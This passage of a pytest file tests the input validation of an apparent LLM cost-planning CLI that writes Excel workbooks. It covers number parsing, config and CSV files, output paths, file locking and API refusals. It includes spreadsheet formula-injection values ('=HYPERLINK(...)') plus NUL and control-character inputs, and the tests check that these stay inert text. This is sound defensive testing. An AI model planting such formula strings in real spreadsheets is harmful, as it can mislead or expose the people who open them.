"""Hostile input: never a wrong number, never a traceback, never a lost file.

Every refusal is checked the same way: exit status 2 (or the InputError the API raises), a
message naming the input and what would be accepted, no "Traceback" anywhere, and the
files on disk exactly as they were before the run.
"""

import io
import math
import multiprocessing
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import pytest

import costlib
from hypothesis import given, settings
from hypothesis import strategies as st
from rendered import default_bytes

from costlib import cli
from costlib.errors import InputError
from costlib.plan import schedule
from costlib.workbook import generate, is_unedited, render
from costlib.plan import load_template, resolve_inputs
from costlib.workbook.files import BusyError, locked, write_workbook
from costlib.plan import parse_number

pytestmark = pytest.mark.slow  # 240 generations: the full suite's battery, not the core tier's

BUDGET = load_template("budget")


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` with its bytes: what "nothing changed" means."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def refused(capsys, tmp_path, argv, *fragments):
    """Run the CLI in-process; assert exit 2, each fragment in the message, no traceback, no file touched."""
    before = snapshot(tmp_path)
    code = cli.main(argv)
    out, err = capsys.readouterr()
    assert code == 2, (code, out, err)
    for fragment in fragments:
        assert fragment in err, (fragment, err)
    assert "Traceback" not in out + err
    assert err.count("\n") == 1, err  # one line
    assert snapshot(tmp_path) == before
    return err


def inputs_sheet_value(path: Path, name: str):
    from openpyxl import load_workbook

    wb = load_workbook(path, data_only=True)  # the value each input has (an uncertain one's by formula)
    sheet, ref = list(wb.defined_names[name].destinations)[0]
    return wb[sheet][ref.replace("$", "")].value


# ------------------------------------------------------------------------------------------ numbers typed


ACCEPTED = [  # (typed, read as): finance notation, each unambiguous
    ("70B", 70e9), ("70 B", 70e9), ("70bn", 70e9), ("15T", 15e12), ("500M", 500e6), ("500k", 500e3),
    ("8e9", 8e9), ("8E9", 8e9), ("1.5e-3", 1.5e-3), ("$2.50", 2.5), ("USD 2.50", 2.5), ("2.50 USD", 2.5),
    ("1,000,000", 1e6), ("1,000.5", 1000.5), ("1 000 000", 1e6), ("1\u00a0000", 1000.0),
    ("1_000", 1000.0), ("60%", 0.6), ("60 %", 0.6), ("0.5%", 0.005), (".5", 0.5), ("5.", 5.0),
    ("  42  ", 42.0), ("+3", 3.0), ("-3", -3.0), ("\u22123", -3.0), ("$1,250.75", 1250.75),
    ("2.5K", 2500.0), ("0.07T", 0.07e12),
]


@pytest.mark.parametrize("typed, expected", ACCEPTED)
def test_numbers_as_finance_types_them(typed, expected):
    assert parse_number("x", typed)[0] == pytest.approx(expected, rel=1e-15)


REFUSED_NUMBERS = [  # (typed, the hint the message gives)
    ("2,5", "the comma is ambiguous (2.5 or 25?)"), ("0,6", "a decimal comma? type 0.6"),
    ("1,0,0", "groups of three digits"), ("12,34,567", "groups of three digits"), ("1.000,50", "European number"),
    ("1.000.000", "type a number such as"), ("inf", "finite"), ("-inf", "finite"), ("nan", "finite"),
    ("Infinity", "finite"), ("€3", "without the currency sign (3)"), ("£3", "without the currency sign (3)"),
    ("forty", "type a number such as"),
    ("", "type a number such as"), ("%", "type a number such as"), ("5%%", "type a number such as"),
    ("$5%", "not both"), ("(1,000)", "type a number such as"), ("1e", "type a number such as"),
    ("0x10", "type a number such as"), ("\u0663", "type a number such as"), ("1__0", "type a number such as"),
    ("7 0", "groups of three"), ("1,000 000", "groups of three"), ("70 B B", "type a number such as"),
]


@pytest.mark.parametrize("typed, hint", REFUSED_NUMBERS)
def test_ambiguous_or_foreign_numbers_are_refused_with_a_hint(typed, hint):
    with pytest.raises(InputError, match="^x must be a number, got text") as raised:
        parse_number("x", typed)
    assert hint in str(raised.value) and raised.value.argument == "x"


@given(st.floats(allow_nan=False, allow_infinity=False))
@settings(max_examples=300, deadline=None)
def test_any_float_round_trips_through_its_repr_and_with_separators(x):
    assert parse_number("x", repr(x))[0] == x
    if abs(x) < 1e15:
        assert parse_number("x", f"{x:,.6f}")[0] == float(f"{x:.6f}")


@given(st.integers(min_value=0, max_value=10**15))
@settings(max_examples=200, deadline=None)
def test_thousands_separators_and_percent(n):
    if 1000 <= n < 1_000_000:  # one group of three after one separator: two readings 1,000 times apart
        with pytest.raises(InputError, match="1,000 times apart"):
            parse_number("x", f"{n:,}")
    else:
        assert parse_number("x", f"{n:,}")[0] == n
    assert parse_number("x", f"{n} %")[0] == n / 100
    assert parse_number("x", f"{n:_}")[0] == n


# ------------------------------------------------------------------------------------------- the CLI: --set


SET_REFUSED = [  # (--set value, fragments of the message); each names its input
    ("serve_price_per_gpu_hour=2,5", "serve_price_per_gpu_hour must be a number", "type 2.5, or 25"),
    ("utilization=0,6", "utilization must be a number", "type 0.6"),
    ("monthly_growth=5", "monthly_growth is fraction/month: 5 would be 500%", "type 5% for 5 %"),
    ("monthly_growth=1.5", "monthly_growth", "plausible 0 to 0.5"),
    ("failed_run_share=10", "failed_run_share is fraction: 10 would be 1000%", "1000% if you mean it"),
    ("development_months=100", "development_months must be <= months (36), got 100"),
    ("development_months=37", "development_months must be <= months (36), got 37"),
    ("start_date=2027-13", "start_date must be a date such as 2027-01 or 2027-01-01, got '2027-13'"),
    ("fiscal_year_start_month=13", "fiscal_year_start_month must be <= 12, got 13"),
    ("useful_life_months=0", "useful_life_months must be >= 1, got 0"),
    ("launch_month=3", "launch_month = 3: launch_month is before the final run ends"),
    ("months=36.000000001", "months must be a whole number, got 36.000000001"),
    ("months=0", "months must be >= 1, got 0"), ("months=601", "months must be <= 600, got 601"),
    ("months=-1", "months must be >= 1, got -1"), ("months=1e3", "months must be <= 600, got 1000"),
    ("months=12.5", "months must be a whole number, got 12.5"), ("months=50%", "months must be >= 1, got 0.5"),
    ("params=8B dollars", "params must be a number"), ("params=0", "params must be > 0, got 0"),
    ("params=-70B", "params must be > 0, got -70000000000"), ("params=1e309", "params must be a finite number"),
    ("params=1e308", "params is 100e306 parameters, above the plausible 1e6 to 100e12 parameters",
     "type 100e306! if you mean it"),
    ("params=1e308!", "params = 100e306 (default 70000000000)", "overflow"),
    ("params=inf", "params must be a number", "finite"), ("params=nan", "params must be a number"),
    ("params=", "params must be a number"), ("params=0x10", "params must be a number"),
    ("mfu=1.4", "mfu must be in (0, 1], got 1.4"), ("mfu=0", "mfu must be in (0, 1], got 0"),
    ("mfu=140%", "mfu must be in (0, 1], got 1.4"), ("mfu=forty", "mfu must be a number, got text 'forty'"),
    ("utilization=-5%", "utilization must be in (0, 1], got -0.05"),
    ("data_preparation_share=1", "data_preparation_share must be in [0, 1), got 1"),
    ("train_price_per_gpu_hour=-2", "train_price_per_gpu_hour must be >= 0, got -2"),
    ("train_price_per_gpu_hour=€2", "train_price_per_gpu_hour", "without the currency sign (2)"),
    ("tokens_per_second=1e-300", "tokens_per_second = 1e-300", "overflow"),
    ("monthly_tokens=1e307", "monthly_tokens is 10e306 tokens/month, above the plausible 0 to 100e15"),
    ("monthly_tokens=1e307!", "monthly_tokens = 10e306", "overflow"),
    ("gpu=H10", "gpu must be a name in the accelerators catalogue"), ("gpu=", "gpu must be a name"),
    ("precision=fp4", "precision must be one of bf16, fp16, fp8, tf32"),
    ("model_name=a\x01b", "model_name must be printable text", "U+0001"),
    ("model_name=a\x7fb", "model_name must be printable text", "U+007F"),
    ("model_name=" + "x" * 40_000, "model_name must be at most 32,767 characters", "got 40,000"),
    ("parms=8e9", "'parms' is not an input of the budget template; closest: params"),
    ("PARAMS=8e9", "'PARAMS' is not an input", "params"),
    ("params", "--set must be NAME=VALUE, got 'params'"), ("=5", "--set must be NAME=VALUE"),
]


@pytest.mark.parametrize("assignment, fragments", [(c[0], c[1:]) for c in SET_REFUSED],
                         ids=[c[0][:40] for c in SET_REFUSED])
def test_set_refusals(tmp_path, capsys, assignment, fragments):
    refused(capsys, tmp_path, ["generate", "budget", "-o", str(tmp_path / "plan.xlsx"), "--set", assignment],
            *fragments)


def test_growth_over_a_long_timeline_overflows_naming_the_input(tmp_path, capsys):
    refused(capsys, tmp_path, ["generate", "budget", "-o", str(tmp_path / "p.xlsx"), "--set", "months=600",
                               "--set", "monthly_growth=1000%"], "monthly_growth = 10", "overflow")


def test_users_overflow_in_unit_economics(tmp_path, capsys):
    refused(capsys, tmp_path, ["generate", "unit-economics", "-o", str(tmp_path / "u.xlsx"), "--set",
                               "users=1e307!"], "users = 10e306", "overflow")


SET_ACCEPTED = [  # (--set value, input, value in the workbook)
    ("params=70B", "params", 70e9), ("train_tokens=15T", "train_tokens", 15e12),
    ("monthly_tokens=500M", "monthly_tokens", 500e6), ("serve_price_per_gpu_hour=$2.50", "serve_price_per_gpu_hour", 2.5),
    ("finetune_cost=1,000,000", "finetune_cost", 1e6), ("utilization=60%", "utilization", 0.6),
    ("monthly_growth=500%", "monthly_growth", 5.0), ("monthly_growth=5%", "monthly_growth", 0.05),
    ("failed_run_share=1000%", "failed_run_share", 10.0), ("development_months=26", "development_months", 26),
    ("months=36.0", "months", 36), ("model_name==HYPERLINK(\"http://x\")", "model_name", '=HYPERLINK("http://x")'),
    ("model_name=" + "x" * 32_767, "model_name", "x" * 32_767), ("precision= FP8 ", "precision", "fp8"),
]


@pytest.mark.parametrize("assignment, name, expected", SET_ACCEPTED, ids=[c[0][:40] for c in SET_ACCEPTED])
def test_set_accepted_values_reach_the_workbook(tmp_path, capsys, assignment, name, expected):
    out = tmp_path / "plan.xlsx"
    assert cli.main(["generate", "budget", "-o", str(out), "--set", assignment]) == 0
    assert inputs_sheet_value(out, name) == expected
    assert "Traceback" not in "".join(capsys.readouterr())


def test_monthly_tokens_zero_is_never_a_traceback(tmp_path, capsys):
    code = cli.main(["generate", "budget", "-o", str(tmp_path / "train-only.xlsx"), "--set", "monthly_tokens=0"])
    out, err = capsys.readouterr()
    assert code in (0, 2) and "Traceback" not in out + err


def test_monthly_tokens_zero_is_legal(tmp_path):  # a training-only plan: ratios without tokens say n/a
    out = tmp_path / "train-only.xlsx"
    assert cli.main(["generate", "budget", "-o", str(out), "--set", "monthly_tokens=0"]) == 0
    assert is_unedited(out)


# ------------------------------------------------------------------------------------------- output paths


def test_output_refusals(tmp_path, capsys):
    (tmp_path / "folder.xlsx").mkdir()
    (tmp_path / "afile").write_text("x")
    base = ["generate", "budget"]
    refused(capsys, tmp_path, base + ["-o", ""], "-o must name an .xlsx file, got ''")
    refused(capsys, tmp_path, base + ["-o", str(tmp_path / "folder.xlsx")], "got the folder")
    refused(capsys, tmp_path, base + ["-o", str(tmp_path / "afile" / "x.xlsx")], "a part of the path is a file")
    refused(capsys, tmp_path, base + ["-o", str(tmp_path / ("n" * 300 + ".xlsx"))], "n" * 20)
    refused(capsys, tmp_path, base + ["-o", str(tmp_path / "plan.csv")], "-o must name an .xlsx file")
    refused(capsys, tmp_path, base + ["-o", str(tmp_path / "out"), "--scenarios", str(tmp_path / "none.csv")],
            "none.csv", "No such file")


def test_read_only_folder(tmp_path, capsys):
    if os.geteuid() == 0:  # root writes into any folder a chmod guards; sysfs refuses even root (EACCES)
        refused(capsys, tmp_path, ["generate", "budget", "-o", "/sys/p.xlsx"], "cannot write", "ermission")
        return
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o500)
    try:
        refused(capsys, tmp_path, ["generate", "budget", "-o", str(ro / "p.xlsx")], "cannot write", "ermission")
    finally:
        ro.chmod(0o700)


# ------------------------------------------------------------------------------------------- config files


CONFIG_REFUSED = [  # (bytes of the file, fragments)
    (b"params = [1, 2]\n", "params must be one number, got a list"),
    (b"[inputs]\nparams = [8e9]\n", "params must be one number, got a list"),
    (b"params = true\n", "params must be a number, got True"),
    (b"params = 1979-05-27\n", "params must be a number"),
    (b"params = 8e9\n[inputs]\nparams = 9e9\n", "sets params twice"),
    (b"[other]\nparams = 8e9\n", "[other] is a table"),
    (b"inputs = 5\n", "inputs must be a table"),
    (b"params = \n", "must be TOML"),
    (b"params: 8e9\n", "must be TOML"),
    (b"monthly_growth = 5\n", "monthly_growth is fraction/month"),
    (b"utilization = \"0,6\"\n", "utilization must be a number", "type 0.6"),
    (b"months = 1" + b"0" * 400 + b"\n", "months must be a finite number"),
    (b"parms = 8e9\n", "'parms' is not an input", "closest: params"),
    (b"PK\x03\x04rest of a zip", "is an Excel workbook"),
    (b"params = 8e9\x00\n", "NUL"),
    (b"params = 8e9 # \x81\x8d\n", "not text in UTF-8, UTF-16 or Windows-1252"),
    (b"model_name = \"a\\u0000b\"\n", "model_name must be printable text"),
]


@pytest.mark.parametrize("content, fragments", [(c[0], c[1:]) for c in CONFIG_REFUSED],
                         ids=[repr(c[0][:30]) for c in CONFIG_REFUSED])
def test_config_refusals(tmp_path, capsys, content, fragments):
    config = tmp_path / "inputs.toml"
    config.write_bytes(content)
    refused(capsys, tmp_path, ["generate", "budget", "-o", str(tmp_path / "p.xlsx"), "--config", str(config)],
            *fragments)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252"])
def test_config_encodings_excel_saves(tmp_path, capsys, encoding):
    config = tmp_path / "inputs.toml"
    config.write_bytes('model_name = "Modèle à 8 milliards"\nparams = "8B"\n'.encode(encoding))
    out = tmp_path / "p.xlsx"
    assert cli.main(["generate", "budget", "-o", str(out), "--config", str(config)]) == 0, capsys.readouterr()
    assert inputs_sheet_value(out, "params") == 8e9
    assert inputs_sheet_value(out, "model_name") == "Modèle à 8 milliards"


def test_config_top_level_and_inputs_table_both_count(tmp_path):
    config = tmp_path / "inputs.toml"
    config.write_text("params = 8e9\n[inputs]\nmonths = 12\n")
    out = tmp_path / "p.xlsx"
    assert cli.main(["generate", "budget", "-o", str(out), "--config", str(config)]) == 0
    assert (inputs_sheet_value(out, "params"), inputs_sheet_value(out, "months")) == (8e9, 12)


def test_config_missing_or_a_folder(tmp_path, capsys):
    refused(capsys, tmp_path, ["generate", "budget", "-o", str(tmp_path / "p.xlsx"), "--config",
                               str(tmp_path / "nope.toml")], "--config", "No such file")
    refused(capsys, tmp_path, ["generate", "budget", "-o", str(tmp_path / "p.xlsx"), "--config", str(tmp_path)],
            "--config", "directory")


# ------------------------------------------------------------------------------------------- scenario files


SCENARIOS_REFUSED = [  # (bytes of the CSV, fragments); nothing may be written for any of them
    (b"scenario,params\ncomparison,8e9\n", "'comparison' is reserved"),
    (b"scenario,params\nComparison,8e9\n", "is reserved"),
    (b"scenario,params\nSmall,8e9\nsmall,9e9\n", "gives the same file as 'Small'", "ignoring case"),
    (b"scenario,params\na b,8e9\na-b,9e9\n", "gives the same file"),
    (b"scenario,params\nok,8e9,5\n", "line 2: 3 values but the header names 2 columns"),
    (b"params,params\n8e9,9e9\n", "the column 'params' appears twice"),
    (b"scenario,Params\nx,8e9\n", "the column 'Params' is not an input", "closest: params"),
    (b"scenario,,params\nx,5,8e9\n", "column 2 of the header has no name"),
    (b"scenario;params\nx;8e9\n", None),  # placeholder replaced below: a valid semicolon file
    (b"scenario,params,mfu\nok,8e9,0.5\nbad,8e9,1.4\n", "line 3, scenario 'bad': mfu must be in (0, 1], got 1.4"),
    (b"scenario,params\nok,8e9\nbad,2,5\n", "line 3: 3 values"),
    (b'scenario,params\nok,8e9\nbad,"2,5"\n', "line 3, scenario 'bad': params must be a number", "2.5 or 25"),
    (b"scenario;params\nx;1.000\n", "line 2: params is '1.000'", "semicolon"),
    (b"scenario,monthly_growth\nfast,5\n", "scenario 'fast': monthly_growth is fraction/month"),
    (b"scenario,development_months\nlate,100\n", "development_months must be <= months (36), got 100"),
    (b"scenario\n", "must have a header row and at least one scenario row"),
    (b"", "must have a header row"),
    (b"scenario,params\n\"x,8e9\n", "not a readable CSV file"),
    (b"PK\x03\x04...", "is an Excel workbook", "save it as CSV"),
    (b"scenario,params\nx\x01y,8e9\n", "holds a control character"),
    (("scenario,params\n" + "n" * 101 + ",8e9\n").encode(), "at most 100 characters"),
    (b"scenario,params\nx,1e308!\n", "params = 100e306", "overflow"),
    (b"scenario,model_name\nx,\"a\x00b\"\n", "NUL"),
]
SCENARIOS_REFUSED = [c for c in SCENARIOS_REFUSED if c[1] is not None]


@pytest.mark.parametrize("content, fragments", [(c[0], c[1:]) for c in SCENARIOS_REFUSED],
                         ids=[repr(c[0][:30]) for c in SCENARIOS_REFUSED])
def test_scenario_refusals_write_nothing(tmp_path, capsys, content, fragments):
    csv = tmp_path / "runs.csv"
    csv.write_bytes(content)
    refused(capsys, tmp_path, ["generate", "budget", "--scenarios", str(csv), "-o", str(tmp_path / "out")],
            *fragments)
    assert not (tmp_path / "out").exists()


def test_set_and_a_column_both_setting_an_input_is_refused(tmp_path, capsys):
    csv = tmp_path / "runs.csv"
    csv.write_text("scenario,months\nx,12\n")
    refused(capsys, tmp_path, ["generate", "budget", "--scenarios", str(csv), "-o", str(tmp_path / "out"),
                               "--set", "months=24"], "--set months and the column months", "drop one")


def test_scenarios_into_a_file_is_refused(tmp_path, capsys):
    csv = tmp_path / "runs.csv"
    csv.write_text("scenario,months\nx,12\n")
    (tmp_path / "out").write_text("not a folder")
    refused(capsys, tmp_path, ["generate", "budget", "--scenarios", str(csv), "-o", str(tmp_path / "out")],
            "-o must name a folder")
    refused(capsys, tmp_path, ["generate", "budget", "--scenarios", str(csv), "-o", ""], "-o must name a folder")


def batch(tmp_path, content: bytes, *extra):
    csv = tmp_path / "runs.csv"
    csv.write_bytes(content)
    out = tmp_path / "out"
    return cli.main(["generate", "budget", "--scenarios", str(csv), "-o", str(out), *extra]), out


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_scenario_encodings(tmp_path, encoding):
    code, out = batch(tmp_path, "scenario,model_name,params\nModèle,Modèle à 8 milliards,8B\n".encode(encoding))
    assert code == 0
    assert inputs_sheet_value(out / "budget-Mod-le.xlsx", "model_name") == "Modèle à 8 milliards"


def test_semicolon_file_with_decimal_commas(tmp_path):
    code, out = batch(tmp_path, "scenario;params;utilization;model_name\nsmall;8e9;0,6;Llama, 8B\n"
                                "large;70e9;20%;x\n".encode("cp1252"))
    assert code == 0
    assert inputs_sheet_value(out / "budget-small.xlsx", "utilization") == 0.6
    assert inputs_sheet_value(out / "budget-small.xlsx", "model_name") == "Llama, 8B"  # text keeps its comma
    assert inputs_sheet_value(out / "budget-large.xlsx", "utilization") == 0.2


def test_blank_rows_are_no_scenarios_and_blank_cells_keep_the_default(tmp_path, capsys):
    code, out = batch(tmp_path, b"scenario,params,months,\nsmall,8e9,,\n,,,\n\nlarge,,12,\n,,\n")
    assert code == 0
    assert sorted(p.name for p in out.iterdir()) == ["budget-comparison.xlsx", "budget-large.xlsx",
                                                     "budget-small.xlsx"]
    assert inputs_sheet_value(out / "budget-small.xlsx", "months") == 36
    assert inputs_sheet_value(out / "budget-large.xlsx", "params") == 70e9
    assert "wrote 2 workbooks" in capsys.readouterr().out


def test_scenario_header_in_any_case_names_the_files(tmp_path):
    code, out = batch(tmp_path, b"Scenario,params\nQ3 plan,8e9\n")
    assert code == 0 and (out / "budget-Q3-plan.xlsx").exists()


def test_a_formula_like_scenario_name_stays_text(tmp_path):
    from openpyxl import load_workbook

    code, out = batch(tmp_path, b'scenario,params\n"=HYPERLINK(""http://x"",A1)",8e9\n')
    assert code == 0
    ws = load_workbook(out / "budget-comparison.xlsx")["Comparison"]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)


# ------------------------------------------------------------------------------------------- batches


def test_a_bad_row_anywhere_writes_nothing(tmp_path, capsys):
    code, out = batch(tmp_path, b"scenario,params\na,8e9\nb,9e9\nc,-1\n")
    assert code == 2 and not out.exists()
    assert "line 4, scenario 'c': params must be > 0, got -1" in capsys.readouterr().err


def test_an_edited_file_in_the_folder_stops_the_batch_before_any_write(tmp_path, capsys):
    from openpyxl import load_workbook

    code, out = batch(tmp_path, b"scenario,params\na,8e9\nb,9e9\n")
    assert code == 0
    wb = load_workbook(out / "budget-b.xlsx")
    wb["Inputs"]["A1"] = "my note"
    wb.save(out / "budget-b.xlsx")
    (tmp_path / "runs.csv").write_bytes(b"scenario,params\na,7e9\nb,6e9\n")
    before = snapshot(tmp_path)
    code, _ = batch(tmp_path, b"scenario,params\na,7e9\nb,6e9\n")
    err = capsys.readouterr().err
    assert code == 2 and "budget-b.xlsx" in err and "nothing was written" in err and "--force" in err
    assert snapshot(tmp_path) == before  # budget-a.xlsx untouched too
    code, _ = batch(tmp_path, b"scenario,params\na,7e9\nb,6e9\n", "--force")
    assert code == 0 and is_unedited(out / "budget-b.xlsx")


def test_interrupted_batch_says_what_was_written(tmp_path, capsys, monkeypatch):
    from costlib.workbook import files

    real = files.write_workbook
    calls = []

    def interrupt_on_second(data, path, force=False):
        calls.append(path)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return real(data, path, force=force)

    monkeypatch.setattr(files, "write_workbook", interrupt_on_second)
    code, out = batch(tmp_path, b"scenario,params\na,8e9\nb,9e9\nc,7e9\n")
    err = capsys.readouterr().err
    assert code == 130
    assert err.strip().endswith("none is half-written") and "1 of 4 workbooks were written (budget-a.xlsx)" in err
    assert "Traceback" not in err and err.count("\n") == 1
    assert sorted(p.name for p in out.iterdir()) == ["budget-a.xlsx"]  # no temporary file left


def test_interrupted_single_run(tmp_path, capsys, monkeypatch):
    from costlib.workbook import files

    def interrupt(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(files.os, "fsync", interrupt)
    assert cli.main(["generate", "budget", "-o", str(tmp_path / "p.xlsx")]) == 130
    assert capsys.readouterr().err == "costlib: interrupted; nothing was written\n"
    assert list(tmp_path.iterdir()) == []


# ------------------------------------------------------------------------------------------- edits, locks


def _with_custom_property(path: Path, name: str, value: str) -> None:
    """Add a custom document property as Excel does on save of a sensitivity label or a reviewer's note."""
    with zipfile.ZipFile(path) as z:
        members = {n: z.read(n) for n in z.namelist()}
    prop = (f'<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="9" name="{name}">'
            f"<vt:lpwstr>{value}</vt:lpwstr></property>").encode()
    members["docProps/custom.xml"] = members["docProps/custom.xml"].replace(b"</Properties>", prop + b"</Properties>")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in members.items():
            z.writestr(n, data)
    path.write_bytes(buf.getvalue())


@pytest.mark.parametrize("change", ["custom property", "custom property value", "core title", "extra part"])
def test_any_change_is_an_edit(tmp_path, capsys, change):
    out = tmp_path / "p.xlsx"
    assert cli.main(["generate", "budget", "-o", str(out)]) == 0
    if change == "custom property":
        _with_custom_property(out, "MSIP_Label", "Confidential")
    else:
        with zipfile.ZipFile(out) as z:
            members = {n: z.read(n) for n in z.namelist()}
        if change == "custom property value":
            members["docProps/custom.xml"] = members["docProps/custom.xml"].replace(b">budget<", b">my budget<")
        elif change == "core title":
            members["docProps/core.xml"] = members["docProps/core.xml"].replace(b"LLM budget", b"Q3 budget")
        else:
            members["customXml/item1.xml"] = b"<note>reviewed</note>"
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            for n, data in members.items():
                z.writestr(n, data)
        out.write_bytes(buf.getvalue())
    assert not is_unedited(out)
    refused(capsys, tmp_path, ["generate", "budget", "-o", str(out), "--set", "months=12"], "pass --force")


def test_an_unedited_file_is_still_replaced(tmp_path):
    out = tmp_path / "p.xlsx"
    assert generate("budget", None, out) == "written"
    assert generate("budget", {"months": 12}, out) == "replaced"
    assert generate("budget", {"months": 12}, out) == "unchanged"


class another_run:
    """The lock of ``path`` held as another costlib process holds it (its own open file, not this process's)."""

    def __init__(self, path):
        from costlib.workbook import files

        self.files, self.path = files, Path(path)

    def __enter__(self):
        self.lock = self.files._lock_path(self.path)
        self.fd = self.files._acquire(self.lock, self.path)

    def __exit__(self, *exc):
        self.files._release(self.lock, self.fd)


def test_a_second_writer_of_the_same_file_exits_2(tmp_path, capsys):
    out = tmp_path / "p.xlsx"
    with another_run(out):
        refused(capsys, tmp_path, ["generate", "budget", "-o", str(out)], "another costlib run is writing it now")
    assert cli.main(["generate", "budget", "-o", str(out)]) == 0


def test_two_batches_into_one_folder_never_mix(tmp_path, capsys):
    csv = tmp_path / "runs.csv"
    csv.write_text("scenario,params\na,8e9\n")
    with another_run(tmp_path / "out" / "budget-comparison.xlsx"):
        refused(capsys, tmp_path, ["generate", "budget", "--scenarios", str(csv), "-o", str(tmp_path / "out")],
                "budget-comparison.xlsx", "another costlib run")


def test_the_lock_is_case_insensitive_and_reentrant(tmp_path):
    with another_run(tmp_path / "P.xlsx"):
        with pytest.raises(BusyError):
            write_workbook(default_bytes("budget"), tmp_path / "sub" / ".." / "p.xlsx")
    with locked([tmp_path / "p.xlsx"]):
        assert write_workbook(default_bytes("budget"), tmp_path / "p.xlsx") == "written"  # the holder itself writes


def _writer(args):
    path, months, barrier = args
    barrier.wait()
    code = cli.main(["generate", "budget", "-o", path, "--set", f"months={months}"])
    return code


@pytest.mark.slow  # eight processes
def test_eight_writers_one_file(tmp_path):
    out = tmp_path / "p.xlsx"
    ctx = multiprocessing.get_context("fork")
    barrier = ctx.Manager().Barrier(8)
    with ctx.Pool(8) as pool:
        codes = pool.map(_writer, [(str(out), 12 + i, barrier) for i in range(8)])
    assert sorted(codes) == [0] + [2] * 7, codes
    assert is_unedited(out)
    assert [p.name for p in tmp_path.iterdir()] == ["p.xlsx"]  # no temporary file left behind


# ------------------------------------------------------------------------------------------- the Python API


API_REFUSED = [  # (template, overrides, path, force, fragment)
    ("budget", [("params", 8e9)], "p.xlsx", False, "overrides must be a mapping"),
    ("budget", "params=8e9", "p.xlsx", False, "overrides must be a mapping"),
    ("budget", {1: 8e9}, "p.xlsx", False, "an input name must be text"),
    ("budget", {"params": [8e9]}, "p.xlsx", False, "params must be one number, got a list"),
    ("budget", {"params": (8e9,)}, "p.xlsx", False, "params must be one number"),
    ("budget", {"params": {"v": 1}}, "p.xlsx", False, "params must be one number"),
    ("budget", {"params": None}, "p.xlsx", False, "params must be a number, got None"),
    ("budget", {"params": True}, "p.xlsx", False, "params must be a number, got True"),
    ("budget", {"params": float("nan")}, "p.xlsx", False, "params must be a number, got NaN"),
    ("budget", {"params": float("inf")}, "p.xlsx", False, "params must be a finite number"),
    ("budget", {"params": 10 ** 400}, "p.xlsx", False, "params must be a finite number"),
    ("budget", {"params": 1e308}, "p.xlsx", False, "above the plausible"),
    ("budget", {"params": "1e308!"}, "p.xlsx", False, "overflow"),
    ("budget", {"params": "2,5"}, "p.xlsx", False, "params must be a number"),
    ("budget", {"monthly_growth": 5}, "p.xlsx", False, "monthly_growth is fraction/month"),
    ("budget", {"model_name": "a\x00b"}, "p.xlsx", False, "model_name must be printable text"),
    ("budget", {"model_name": "\ud800"}, "p.xlsx", False, "model_name must be printable text"),
    ("budget", {"model_name": 5}, "p.xlsx", False, "model_name must be text"),
    ("budget", {"gpu": 989}, "p.xlsx", False, "gpu must be text"),
    ("budget", None, "", False, "path must be the .xlsx file to write, got an empty path"),
    ("budget", None, None, False, "path must be the .xlsx file to write, got None"),
    ("budget", None, ".", False, "got the folder"),
    ("budget", None, "p.csv", False, "path must end in .xlsx"),
    ("budget", None, "p\x00.xlsx", False, "path must not hold a NUL character"),
    ("budget", None, "p.xlsx", "no", "force must be True or False, got 'no'"),
    ("budget", None, "p.xlsx", 1, "force must be True or False"),
    (None, None, "p.xlsx", False, "template must be a template name"),
    ("budgt", None, "p.xlsx", False, "template must be one of"),
]


@pytest.mark.parametrize("template, overrides, path, force, fragment", API_REFUSED,
                         ids=[f"{i}-{c[4][:30]}" for i, c in enumerate(API_REFUSED)])
def test_api_generate_refusals(tmp_path, monkeypatch, template, overrides, path, force, fragment):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(InputError) as raised:
        generate(template, overrides, path, force=force)
    assert fragment in str(raised.value)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("overrides, fragment", [
    ({"params": "1e308!"}, "params = 100e306"), ({"monthly_growth": 10, "months": 600}, "monthly_growth"),
    ({"development_months": 40}, "development_months must be <= months (36)"), ({"mfu": "40 %"}, None),
    ({"launch_month": 5}, "launch_month = 5: launch_month is before the final run ends"),
    ({"params": "70B", "utilization": "60%"}, None),
])
def test_api_schedule(overrides, fragment):
    if fragment is None:
        s = schedule("budget", overrides)
        assert not np.isinf(s.rows.to_numpy()).any() and all(s.checks.values())  # NaN: "n/a" before launch
        return
    with pytest.raises(InputError) as raised:
        schedule("budget", overrides)
    assert fragment in str(raised.value)


def test_resolve_inputs_reads_the_same_as_the_cli():
    values = resolve_inputs(BUDGET, {"params": "70B", "serve_price_per_gpu_hour": "$2.50", "utilization": "20%"})
    assert (values["params"], values["serve_price_per_gpu_hour"], values["utilization"]) == (70e9, 2.5, 0.2)


def test_numpy_warnings_never_reach_the_user(tmp_path, capsys, recwarn):
    cli.main(["generate", "budget", "-o", str(tmp_path / "p.xlsx"), "--set", "monthly_tokens=0"])
    cli.main(["generate", "budget", "-o", str(tmp_path / "q.xlsx"), "--set", "params=1e308"])
    assert not [w for w in recwarn if issubclass(w.category, RuntimeWarning)]
    assert "Warning" not in capsys.readouterr().err


# ------------------------------------------------------------------------------------------- templates


TEMPLATE_REFUSED = [  # (template text, fragment)
    ("name = 'x'\n", "must have 'sheets'"),
    ("name = 'x'\ntitle = 't'\nsheets = 5\n", "does not follow the template format"),
    ("name = 'x'\ntitle = 't'\ninputs = [1]\nsheets = []\n", "does not follow the template format"),
    ("name = 'x'\ntitle = 't'\nbogus = 1\nsheets = []\n", "unknown keys bogus"),
    ("name = \n", "not valid TOML"),
